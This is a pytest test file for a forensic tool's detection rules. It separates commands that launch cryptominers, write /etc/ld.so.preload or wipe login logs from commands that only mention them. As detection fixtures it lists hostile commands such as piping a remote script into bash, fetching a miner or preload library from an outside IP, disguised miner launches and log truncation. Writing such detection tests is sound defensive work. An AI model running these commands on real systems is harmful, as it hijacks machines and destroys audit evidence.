"""Rules about commands: what starts, writes or hides something, and what only names it."""

from typing import Any

import pytest

from volforensic.collection.definitions import Artifact
from volforensic.collection.loader import load_definitions
from volforensic.detection.rules import apply_rules
from volforensic.detection.value_tests import REGEX_HEAD, REGEX_TAIL
from volforensic.record import Finding

ARTIFACTS: dict[str, Artifact] = {one.artifact.name: one.artifact for one in load_definitions()}
MINER_RULES = {
    "auth_log": "sudo-runs-miner",
    "cron": "cron-runs-miner",
    "at": "at-runs-miner",
    "shell_history": "history-runs-miner",
}
WALLET = "4" + "8" + "a" * 93

NAMES_A_MINER = [
    "cat <<EOF > names\nxmrig\nkinsing\nEOF",
    "touch /tmp/kdevtmpfsi; touch /tmp/kinsing && chattr +i /tmp/kinsing",
    "docker ps -a --filter name=xmrig",
    "ssh host 'ps aux | grep xmrig'",
    "pkill -f './xmrig -o stratum+tcp://a'",
    "/opt/xmrig-cleanup.sh -v",
    "/usr/bin/pkill -9 xmrig",
    "rm -rf /opt/xmrig",
    "/usr/bin/journalctl -g xmrig",
    "find / -name *xmrig*",
    "find / -name xmrig -delete",
    "grep -rl stratum+tcp:// /etc",
    "grep -rl stratum+tcp://pool.example /etc",
    "pgrep xmrig && /usr/sbin/reboot",
    "ps aux | grep xmrig",
    "ps aux|grep xmrig",
    "which xmrig",
    "kill -9 $(pgrep xmrig)",
    "kill -9 `pidof xmrig`",
    "clamscan -r / | grep -i xmrig",
    "crontab -l | grep -v kinsing | crontab -",
    "grep -E 'kinsing|xmrig|kdevtmpfsi' /var/log/syslog",
    'grep -E "(xmrig|kinsing)" x',
    "sudo -n grep xmrig /etc/passwd",
    "sudo -u root pkill xmrig",
    "nice -n 19 find / -name xmrig",
    "timeout 60 grep -r xmrig /opt",
    "timeout 60 pkill -f xmrig",
    "/bin/sh -c pkill -9 xmrig; rm -f /tmp/xmrig",
    "test -x /opt/xmrig && rm -f /opt/xmrig",
    "[ -e /usr/bin/kinsing ] && echo found",
    "for p in xmrig kinsing; do pkill $p; done",
    "sed -i '/xmrig/d' /etc/crontab",
    "sed -i 's/a/b/;/xmrig/d' f",
    "/usr/local/bin/kinsing-scan -r /",
    "iptables -A OUTPUT -m string --string stratum+tcp://x --algo bm -j DROP",
    "echo 0.0.0.0 pool.supportxmr.com >> /etc/hosts",
    "curl -sI https://supportxmr.com:443",
    "dig pool.supportxmr.com",
    "if pgrep -x xmrig; then\n kill -9 $(pidof xmrig)\nfi",
    "apt purge xmrig",
    "systemctl stop xmrig; rm -f /etc/systemd/system/xmrig.service",
    "case $p in\n xmrig) kill 1;;\nesac",
    "pgrep -f 'stratum+tcp://a' | xargs kill",
    "grep -rE 'xmrig|stratum+tcp://a' /etc",
    "ss -tnp | grep -E ':3333|supportxmr.com:443'",
    "lsof -c xmrig",
    "logger -t x 'xmrig seen'",
    "ls -la /tmp/xmrig",
    "cat /tmp/xmrig/config.json",
    "strings ./xmrig | head",
    "yara rules.yar /opt/xmrig",
    "sha256sum /tmp/xmrig",
    "nohup grep -r stratum+tcp://pool / &",
    "cd /opt/xmrig && ls",
    "killall xmrig kinsing",
    'BAD="\nxmrig kinsing\n"',
    "# xmrig -o stratum+tcp://x",
    "sudo --user root grep -r stratum+tcp://x /etc",
    "sudo --user root grep xmrig x",
    "awk '/xmrig/ {print $2}'",
    "vim xmrig",
    "man xmrig",
    "mv /opt/xmrig /root/evidence/",
    "chattr -i /opt/xmrig",
    "find / -type f -exec grep -l stratum+tcp://x {} ;",
    "unhide-linux quick; xmrig_exporter -p 1",
    "auditctl -w /usr/bin/xmrig -p x",
    "dpkg -S $(which xmrig)",
    "systemctl status xmrig && kill -9 xmrig",
    "names = [\n  'xmrig',\n  'kinsing',\n]",
    "rm -f /opt/{xmrig,kinsing}",
    "cat > /etc/hosts.deny <<E\nsupportxmr.com\nE",
    "sudo journalctl -g stratum+tcp://a",
    "iptables -A OUTPUT -d pool.supportxmr.com:443 -j DROP",
    "dpkg -l | egrep 'xmrig|kinsing |minerd '",
]
STARTS_A_MINER = [
    "./srv -P stratum1+tcp://w@h:1",
    "sleep 60; /tmp/kinsing",
    "pgrep xmrig >/dev/null || /opt/xmrig -B",
    'sudo bash -c "cd /opt && ./xmrig --config=c.json"',
    "/usr/bin/timeout --signal=KILL 5m /tmp/minerd -o a",
    "xmrig",
    "./xmrig",
    "/opt/xmrig -c /opt/c.json",
    "nohup ./xmrig &",
    "nohup ./xmrig > /dev/null 2>&1 &",
    "cd /tmp && ./xmrig",
    "cd /tmp; exec ./xmrig -B",
    "setsid /tmp/.x/kdevtmpfsi",
    "screen -dm ./xmrig",
    "screen -dmS m ./xmrig -o x",
    "nice -n 19 ./xmrig --cpu-priority 0",
    "timeout 60 ./xmrig",
    "timeout -s KILL 1h ./xmrig",
    "sudo ./xmrig",
    "sudo -u nobody /opt/xmrig",
    "env A=b ./xmrig",
    "A=b ./xmrig",
    "sh -c './xmrig'",
    "/bin/sh -c /tmp/xmrig -o a",
    'bash -c "cd /tmp; ./xmrig"',
    "pgrep xmrig || ./xmrig",
    "(./xmrig &)",
    "`./xmrig`",
    "$(./xmrig &)",
    "true | ./xmrig",
    "./xmrig-6.21.0 -o x",
    '"/tmp/my dir"; "/tmp/xmrig" -o x',
    "/tmp/.a -o stratum+tcp://pool.example:3333",  # noqa: S108 - a command to judge
    "/tmp/.x/xmrig -o stratum+tcp://pool.example:3333",  # noqa: S108 - a command to judge
    "./k -o pool.supportxmr.com:443 -u x",
    "./k --donate-level 1",
    "./k --donate-level=1 -o 1.2.3.4:80",
    f"./k -o 1.2.3.4:80 -u {WALLET}",
    f"curl -s http://h/x.sh | bash -s {WALLET}",
    "./k --url=stratum+ssl://a:1",
    "./k \\\n  -o stratum+tcp://a:1 \\\n -p x",
    "./k -a rx/0 -o h:1",
    "while true; do ./xmrig -c c.json; done",
    "if ! pgrep xmrig; then nohup ./xmrig & fi",
    "su - bob -c './xmrig'",
    "flock -n /tmp/l ./xmrig -B",
    "export X=1; ./minerd -o stratum+tcp://a",
    "[ -x /tmp/k ] && /tmp/k -o stratum+tcp://a:1",
    "$HOME/.c3/xmrig --config=/root/x",
    "~/xmrig/xmrig",
    "kdevtmpfsi",
    "sudo nohup nice -n 5 /usr/bin/xmrig &",
    "exec -a apache2 ./xmrig -B",
    "docker run -d img -o stratum+tcp://a:1",
    "tmux new-session -d -s m './xmrig -B'",
    "pkill xmrig; ./xmrig",
    "./xmrig config.json",
    "./lolMiner --algo ETHASH",
    "timeout 1h ./xmrig",
    "/usr/bin/nohup ./xmrig",
    "sudo ionice -c 3 nice -n 19 ./xmrig",
]


def fired(artifact: str, **fields: Any) -> set[str]:
    """Return the rules that a record of an artifact makes fire."""
    row = {"record_id": f"{artifact}:1", "volume": 0, "source": "/x", "user": "bob", **fields}
    return {found.rule for found in apply_rules(ARTIFACTS[artifact], [row]) if isinstance(found, Finding)}


def by_sudo(command: str) -> set[str]:
    return fired("auth_log", event="sudo", command=command)


def test_the_artifacts_mean_the_same_by_starting_a_miner() -> None:
    patterns = []
    for artifact, name in MINER_RULES.items():
        [rule] = [rule for rule in ARTIFACTS[artifact].detect if rule.name == name]
        where = rule.where if isinstance(rule.where, dict) else rule.where[0]
        patterns.append(where["command|re|i|m"])
    assert patterns == [patterns[0]] * len(MINER_RULES)


@pytest.mark.parametrize("artifact", MINER_RULES)
@pytest.mark.parametrize("command", NAMES_A_MINER)
def test_a_command_that_names_a_miner_does_not_start_one(command: str, artifact: str) -> None:
    assert MINER_RULES[artifact] not in fired(artifact, event="sudo", command=command)


@pytest.mark.parametrize("artifact", MINER_RULES)
@pytest.mark.parametrize("command", STARTS_A_MINER)
def test_a_command_that_starts_a_miner_is_told_of(command: str, artifact: str) -> None:
    assert MINER_RULES[artifact] in fired(artifact, event="sudo", command=command)


@pytest.mark.parametrize("command", NAMES_A_MINER)
def test_a_cron_script_that_names_a_miner_does_not_start_one(command: str) -> None:
    assert "cron-runs-miner" not in fired("cron", script=f"#!/bin/sh\n{command}\nexit 0\n")


@pytest.mark.parametrize("command", [command for command in STARTS_A_MINER if " " in command])
def test_a_cron_script_that_starts_a_miner_is_told_of(command: str) -> None:
    assert "cron-runs-miner" in fired("cron", script=f"#!/bin/sh\n{command}\nexit 0\n")


@pytest.mark.parametrize(
    "command",
    [
        "wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz",
        "cd /tmp; sudo curl -sLo m.tgz http://198.51.100.7/xmrig.tgz",
        "git clone https://github.com/xmrig/xmrig",
        "chmod +x /tmp/kdevtmpfsi",
        "apt-get -y install cpuminer",
    ],
)
def test_fetching_a_miner_is_not_starting_it(command: str) -> None:
    assert fired("shell_history", command=command) & {"history-fetches-miner", "history-runs-miner"} == {
        "history-fetches-miner"
    }


@pytest.mark.parametrize("command", [*NAMES_A_MINER, "chmod 0 /opt/x", "wget https://example.org/miner.html"])
def test_naming_a_miner_is_not_fetching_it(command: str) -> None:
    assert "history-fetches-miner" not in fired("shell_history", command=command)


@pytest.mark.parametrize(
    "text",
    [
        "a ",
        ";",
        "( ",
        "(",
        "sudo -u ",
        ";sudo -u a",
        "/",
        ";/a/a",
        "nohup ",
        ";A=b ",
        "| | ",
        "-o ",
        "\n -o a",
        "{ x -o ",
    ],
)
def test_a_long_command_that_starts_nothing_is_read_to_its_end(text: str) -> None:
    command = (text * (REGEX_HEAD + REGEX_TAIL))[: REGEX_HEAD + REGEX_TAIL]
    assert not by_sudo(command) & {"sudo-runs-miner", "sudo-writes-preload", "sudo-removes-preload"}


@pytest.mark.parametrize(
    "command",
    [
        "/usr/bin/tee /etc/ld.so.preload",
        "/usr/bin/tee -a /etc/ld.so.preload",
        "/usr/bin/install -m 644 /tmp/p /etc/ld.so.preload",
        "/bin/sh -c 'echo x | tee /etc/ld.so.preload'",
        "/bin/cp /tmp/p /etc/ld.so.preload",
        "/bin/mv -f /tmp/p /etc/ld.so.preload",
        "/bin/ln -s /tmp/p /etc/ld.so.preload",
        "/usr/bin/sed -i /x/d /etc/ld.so.preload",
        "/usr/bin/vim /etc/ld.so.preload",
        "sudoedit /etc/ld.so.preload",
        "/bin/sh -c echo /tmp/x.so > /etc/ld.so.preload",
        "/bin/bash -c echo /tmp/x.so >>/etc/ld.so.preload; id",
        "/usr/bin/dd if=/tmp/p of=/etc/ld.so.preload",
        "/usr/bin/curl -o /etc/ld.so.preload http://198.51.100.7/p",
    ],
)
def test_writing_the_preload_is_told_of(command: str) -> None:
    assert "sudo-writes-preload" in by_sudo(command)


@pytest.mark.parametrize(
    "command",
    [
        "/usr/bin/cat /etc/ld.so.preload",
        "/usr/bin/sha256sum /etc/ld.so.preload",
        "/usr/bin/ls -la /etc/ld.so.preload",
        "/usr/bin/stat /etc/ld.so.preload",
        "/usr/bin/grep -c so /etc/ld.so.preload",
        "/usr/bin/grep -o /etc/ld.so.preload /usr/lib/x.so",
        "/usr/bin/grep tee /etc/ld.so.preload",
        "/usr/bin/install -m 600 /etc/ld.so.preload /root/evidence/p",
        "/usr/bin/less /etc/ld.so.preload",
        "/usr/bin/lsattr /etc/ld.so.preload",
        "/usr/bin/cp /etc/ld.so.preload /root/evidence/",
        "/usr/bin/cp /etc/ld.so.preload /root/evidence/etc/ld.so.preload",
        "/usr/bin/sed -n p /etc/ld.so.preload",
        "/bin/sh -c cat /etc/ld.so.preload > /root/copy",
        "/bin/sh -c test -e /etc/ld.so.preload && tee /root/x",
        "/usr/bin/tee /etc/ld.so.preload.bak",
    ],
)
def test_reading_the_preload_is_not_writing_it(command: str) -> None:
    assert not by_sudo(command) & {"sudo-writes-preload", "sudo-removes-preload"}


@pytest.mark.parametrize("command", ["/usr/bin/rm -f /etc/ld.so.preload", "/bin/mv /etc/ld.so.preload /root/evidence/"])
def test_removing_the_preload_has_words_of_its_own(command: str) -> None:
    assert by_sudo(command) & {"sudo-writes-preload", "sudo-removes-preload"} == {"sudo-removes-preload"}


@pytest.mark.parametrize(
    ("command", "wiped"),
    [
        ("/usr/bin/tee /var/log/auth.log", True),
        ("/usr/bin/tee -i /var/log/wtmp", True),
        ("/usr/bin/tee -a /var/log/auth.log", False),
        ("/usr/bin/tee -ia /var/log/auth.log", False),
        ("/usr/bin/tee -i --append /var/log/auth.log", False),
        ("/usr/bin/truncate -s 0 /var/log/auth.log", True),
    ],
)
def test_appending_to_a_log_does_not_wipe_it(command: str, wiped: bool) -> None:  # noqa: FBT001 - a case of the table
    assert ("sudo-wipes-login-log" in by_sudo(command)) is wiped
